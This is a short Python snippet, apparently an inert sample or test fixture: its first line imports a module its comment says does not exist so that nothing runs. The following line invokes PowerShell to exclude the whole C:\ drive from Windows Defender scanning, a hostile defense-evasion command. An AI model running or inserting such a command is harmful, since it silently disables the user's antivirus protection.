import inert_sample  # there is no such module: nothing below ever runs
import subprocess

subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\"], check=False)
